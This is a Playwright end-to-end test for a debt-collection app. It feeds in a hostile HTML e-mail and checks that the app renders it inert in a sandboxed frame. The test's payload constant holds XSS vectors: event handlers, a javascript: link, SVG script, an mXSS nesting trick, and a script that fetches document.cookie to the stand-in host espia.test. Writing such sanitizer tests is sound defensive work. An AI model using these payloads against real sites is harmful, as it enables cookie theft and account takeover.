import { execFileSync } from "node:child_process";
import { expect, test } from "@playwright/test";
import { login, open } from "./helpers";

/** An e-mail handed to the app as a mail server would (`recaudo receive-mail`). */
function receiveMail(raw: string) {
  execFileSync(process.env.RECAUDO_BIN!, ["receive-mail"], {
    cwd: "..",
    input: raw.replace(/\n/g, "\r\n"),
    env: { ...process.env, RECAUDO_DEMO: "true", RECAUDO_DATABASE_URL: "sqlite://end2end/.e2e-data/e2e.db", RUST_LOG: "warn" },
  });
}

const HOSTILE = `<div onmouseover="top.pwned='hover'" style="background:url(https://espia.test/fondo.png)">
<p>Pago el <b>viernes</b> sin falta.</p>
<script>top.pwned = 'script'; fetch('https://espia.test/robar?c=' + document.cookie)</script>
<img src="https://espia.test/pixel.gif" alt="firma" onerror="top.pwned='img'">
<svg onload="top.pwned='svg'"><circle r="4"/><script>top.pwned='svg-script'</script></svg>
<a href="javascript:top.pwned='link'">Ver factura</a>
<a href="https://banco.test/pagar">Pagar en el banco</a>
<iframe src="https://espia.test/marco"></iframe>
<form action="https://espia.test/form"><input name="clave" value="x"><button>Enviar</button></form>
<style>body { background-image: url(https://espia.test/css.png) }</style>
<object data="https://espia.test/x.swf"></object>
<math><mtext><table><mglyph><style><img src=x onerror="top.pwned='mxss'"></style></mglyph></table></mtext></math>
</div>`;

test("a hostile HTML e-mail is shown inert in the conversation", async ({ page }) => {
  // A conversation the debtor started by e-mail: the composer offers their address.
  await login(page, "asesor4@demo.recaudo", undefined, "/conversaciones");
  await page
    .getByRole("list", { name: "Conversaciones" })
    .getByRole("link", { name: /^Correo electrónico / })
    .first()
    .click();
  await expect(page).toHaveURL(/\/conversaciones\/\d+/);
  const clientId = page.url().match(/\/conversaciones\/(\d+)/)![1];
  const line = await page.getByRole("form", { name: "Responder" }).getByText(/^Correo electrónico · /).innerText();
  const email = line.split(" · ")[1].trim();
  expect(email).toContain("@");

  receiveMail(`From: Deudor <${email}>
To: cobranzas@demo.recaudo
Subject: Re: Recordatorio de pago
Message-ID: <hostil-${Date.now()}@deudor.test>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="B"

--B
Content-Type: text/plain; charset=utf-8

Pago el viernes sin falta.
--B
Content-Type: text/html; charset=utf-8

${HOSTILE}
--B--
`);

  const dialogs: string[] = [];
  page.on("dialog", (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  const leaks: string[] = [];
  page.on("request", (r) => {
    if (r.url().includes("espia.test") || r.url().startsWith("javascript:")) leaks.push(r.url());
  });

  await open(page, `/conversaciones/${clientId}`);
  // What the frame shows is read from its document (srcdoc) with the browser's own
  // parser, which runs and loads nothing: Playwright cannot always reach inside a
  // frame that may not run scripts (a locator there hung in CI; a bounding box there
  // never resolves).
  const iframe = page.locator('iframe[title="Correo recibido (HTML)"]').last();
  await expect(iframe).toHaveAttribute("srcdoc", /Pago el <b>viernes<\/b> sin falta\./);
  const selectors = [
    "script", "svg", "iframe", "form", "input", "object", "style", "math",
    "[onmouseover]", "[onerror]", "[onload]", "[style]", "img[src]", 'a[href^="javascript:"]',
  ];
  const shown = await page.evaluate(
    ({ html, selectors }) => {
      const doc = new DOMParser().parseFromString(html, "text/html");
      return {
        bank: doc.body.querySelector('a[href="https://banco.test/pagar"]')?.textContent ?? null,
        signature: doc.body.querySelector('img[alt="firma"]') !== null,
        invoice: [...doc.body.querySelectorAll("a")].some((a) => a.textContent === "Ver factura"),
        headScripts: doc.head.querySelectorAll("script").length,
        counts: Object.fromEntries(selectors.map((s) => [s, doc.body.querySelectorAll(s).length])),
      };
    },
    { html: (await iframe.getAttribute("srcdoc"))!, selectors },
  );
  expect(shown.bank).toBe("Pagar en el banco");
  expect(shown.signature).toBe(true);
  expect(shown.invoice).toBe(true);
  // Nothing that runs, loads or submits survived in the message (the frame's own head
  // holds only its policy and a font rule).
  expect(shown.headScripts).toBe(0);
  expect(shown.counts).toEqual(Object.fromEntries(selectors.map((s) => [s, 0])));

  // The pointer crosses the message, as a reader's would: had a handler survived, it
  // would run now.
  const box = (await iframe.boundingBox())!;
  for (const [fx, fy] of [[0.1, 0.1], [0.5, 0.2], [0.3, 0.5], [0.8, 0.8]]) {
    await page.mouse.move(box.x + box.width * fx, box.y + box.height * fy);
  }
  await page.getByRole("button", { name: "Ampliar" }).last().click();
  await expect(page.getByRole("button", { name: "Reducir" }).last()).toBeVisible();

  expect(await page.evaluate(() => (window as unknown as { pwned?: string }).pwned)).toBeUndefined();
  expect(dialogs).toEqual([]);
  expect(leaks).toEqual([]);
  // The frame can neither script nor reach the app's origin.
  await expect(iframe).toHaveAttribute(
    "sandbox",
    "allow-popups allow-popups-to-escape-sandbox",
  );
});
